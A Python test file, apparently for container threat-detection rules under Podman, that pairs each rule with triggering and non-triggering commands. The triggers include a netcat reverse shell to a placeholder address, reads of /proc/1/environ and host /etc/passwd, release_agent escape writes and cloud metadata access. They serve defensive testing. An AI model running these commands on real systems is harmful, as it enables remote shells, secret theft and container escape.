"""Rules about containers. Those are real ones, of Podman."""

from case import HOME, SENSITIVE_MOUNT, case, host, inside, started

OUTSIDE = "203.0.113.7"
INSIDE = "10.1.2.3"
TOOL = "Launch Suspicious Network Tool in Container"
AS_ROOT = "Container Run as Root User"
CAPABLE = "Launch Excessively Capable Container"
DRIFT_BY_OPEN = "Container Drift Detected (open+create)"

# ---- what is run ----

case(
    "Terminal shell in container",
    inside("/bin/sh -c true", terminal=True),
    [inside("/bin/sh -c true"), inside("@helper", terminal=True)],
)
case(
    "Netcat Remote Code Execution in Container",
    [
        inside(f"@nc -e /bin/sh {OUTSIDE} 4444", {TOOL: 1}),
        inside(f"@ncat --sh-exec /bin/sh {OUTSIDE} 4444", {TOOL: 1}),
    ],
    inside(f"@nc {OUTSIDE} 80", {TOOL: 1}),
)
case(TOOL, inside(f"@nmap {OUTSIDE}"), inside(f"@ping {OUTSIDE}"))
case(
    "Debugfs Launched in Privileged Container",
    inside("@debugfs /dev/sda", where="privileged"),
    [inside("@debugfs /dev/sda"), host("@debugfs /dev/sda")],
)
case(
    "Mount Launched in Privileged Container",
    inside("@mount /dev/sda /mnt", where="privileged"),
    [inside("@mount /dev/sda /mnt"), inside("@mount -l", where="privileged")],
)
case(
    "Drop and execute new binary in container",
    inside("@dropper do install /usr/bin/service /tmp/dropped , spawn /tmp/dropped", {DRIFT_BY_OPEN: 1}),
    inside("@dropper do spawn /usr/bin/service"),
)
case(
    "Launch Package Management Process in Container",
    inside("@apk add thing"),
    [host("@apk add thing"), inside("@helper add thing")],
)
case("Launch Remote File Copy Tools in Container", inside("@scp a b"), [host("@scp a b"), inside("@cp a b")])
case(
    "Launch Ingress Remote File Copy Tools in Container",
    [inside("@wget http://example.org/a"), inside("@curl -o a http://example.org/a")],
    [host("@wget http://example.org/a"), inside("@curl http://example.org/a")],
)
case(
    "Kubernetes Client Tool Launched in Container",
    inside("@kubectl get pods"),
    [host("@kubectl get pods"), inside("@helper get pods")],
)
case(
    "Decoding Payload in Container",
    inside("@base64 -d file"),
    [inside("@base64 file"), host("@base64 -d file")],
)
case(
    "Network Tool Executed During NPM Package Install",
    inside("@yarn do spawn @helper do spawn @telnet", {TOOL: 1}),
    [inside("@yarn do spawn @helper"), inside("@telnet", {TOOL: 1})],
)

# ---- what is done ----

case(
    "Packet socket created in container",
    inside("@sniffer do packet-socket", where="privileged"),
    [host("@sniffer do packet-socket"), inside("@sniffer do raw-inet-socket", where="privileged")],
)
case(
    "Redirect STDOUT/STDIN to Network Connection in Container",
    [inside(f"@shell do redirect tcp {INSIDE} 80 0"), inside(f"@shell do redirect tcp {INSIDE} 80 1")],
    [host(f"@shell do redirect tcp {INSIDE} 80 0"), inside(f"@shell do redirect tcp {INSIDE} 80 9")],
)
case(
    "Linux Kernel Module Injection Detected",
    inside("@loader do load-module /usr/bin/loader", where="privileged"),
    [inside("@loader do load-module /usr/bin/loader"), host("@loader do load-module /usr/bin/loader")],
)
case(
    "Detect release_agent File Container Escapes",
    inside("@escaper do open /tmp/release_agent w", where="privileged", before=["@escaper do open /tmp/release_agent wc"]),
    [
        inside("@escaper do open /tmp/release_agent w", before=["@escaper do open /tmp/release_agent wc"]),
        inside("@escaper do open /tmp/other w", where="privileged", before=["@escaper do open /tmp/other wc"]),
    ],
)
case(
    "Change namespace privileges via unshare",
    inside("@climber do unshare net"),
    [inside("@climber do unshare net", where="privileged"), host("@climber do unshare net")],
)
case(
    "Read environment variable from /proc files",
    inside("@reader do open /proc/1/environ r"),
    [inside("@reader do open /proc/1/status r"), inside("@scsi_id do open /proc/1/environ r")],
)
case(
    "Exfiltrating Artifacts via Kubernetes Control Plane",
    inside("@tar do open /srv/data r"),
    [inside("@tar do open /etc/hostname r"), inside("@helper do spawn @tar do open /srv/data r")],
)
case(
    "Container Drift Detected (chmod)",
    inside("@changer do chmod /srv/data 0755"),
    [inside("@changer do chmod /srv/data 0644"), host("@changer do chmod /srv/other.txt 0755")],
)
case(
    DRIFT_BY_OPEN,
    inside("@maker do open /srv/program wcx 0755", before=["/bin/busybox rm -f /srv/program"]),
    [inside("@maker do open /srv/plain wc 0644"), host("@maker do open /srv/program wc 0755")],
)
case(
    "Modify Container Entrypoint",
    inside("@escaper do reopen /srv/data"),
    [inside("@escaper do open /srv/data w"), host("@escaper do reopen /srv/other.txt")],
)
case(
    "Privileged Container Device Access",
    inside("@reader do open /dev/sdz r", where="privileged", before=["/bin/busybox touch /dev/sdz"]),
    [inside("@reader do open /dev/null r", where="privileged"), host("@reader do open /dev/sdz r")],
)
case(
    "Container Access to Host Sensitive Paths",
    [inside("@reader do open /host/etc/passwd r"), inside("@reader do open /host/etc/passwd w")],
    [inside("@reader do open /srv/data r"), inside("@runc do open /host/etc/passwd r"), host("@reader do open /host/etc/passwd r")],
)

# ---- connections ----

case(
    "Contact K8S API Server From Container",
    inside("@client do resolve kubernetes.default.svc.cluster.local 198.51.100.53 , connect tcp 10.96.0.1 443"),
    [
        inside(f"@client do resolve www.example.org 198.51.100.53 , connect tcp {INSIDE} 443"),
        host("@client do resolve kubernetes.default.svc.cluster.local 198.51.100.53 , connect tcp 10.96.0.1 443"),
    ],
)
METADATA = ("Contact EC2 Instance Metadata Service From Container", "Contact cloud metadata service from container")
for rule, other in (METADATA, METADATA[::-1]):
    case(
        rule,
        inside("@client do connect tcp 169.254.169.254 80", {other: 1}),
        [inside(f"@client do connect tcp {OUTSIDE} 80"), host("@client do connect tcp 169.254.169.254 80")],
    )
case(
    "Unexpected K8s NodePort Connection",
    inside(f"@client do connect tcp {INSIDE} 30080"),
    [inside(f"@client do connect tcp {INSIDE} 80"), host(f"@client do connect tcp {INSIDE} 30080")],
)
def pod(namespace):
    """Options of a container that says of which pod it is, as those of CRI-O do."""
    words = {"name": "shop-0", "uid": "5f1c", "namespace": namespace}
    return "--user 1000 " + " ".join(f"--annotation io.kubernetes.pod.{key}={word}" for key, word in words.items())


case(
    "Network Connection outside Local Subnet",
    started(pod("walled"), f"@client do connect tcp {OUTSIDE} 80 , sleep 300"),
    [
        started(pod("walled"), f"@client do connect tcp {INSIDE} 80 , sleep 300"),
        started(pod("open"), f"@client do connect tcp {OUTSIDE} 80 , sleep 300"),
    ],
    changed="its list namespace_scope_network_only_subnet is published empty; the namespace walled was put in",
)

# ---- how containers are started ----

case(
    "Launch Privileged Container",
    started("--privileged --user 1000"),
    [started("--user 1000"), started("--cap-add SYS_CHROOT --user 1000")],
)
case(
    CAPABLE,
    started("--cap-add SYS_PTRACE", also={AS_ROOT: 1}),
    [started("", also={AS_ROOT: 1}), started("--cap-add SYS_CHROOT", also={AS_ROOT: 1})],
)
case(AS_ROOT, started(""), [started("--user 1000"), inside("@service")])
case(
    SENSITIVE_MOUNT,
    started(f"--volume /mnt/image/mnt:{HOME}/x --user 1000"),
    started("--user 1000", image="trusted"),
)
case(
    "Launch Disallowed Container",
    started("--user 1000", image="stranger"),
    started("--user 1000"),
    changed="its macro allowed_containers allows all as published; it was replaced by one that allows one image",
)
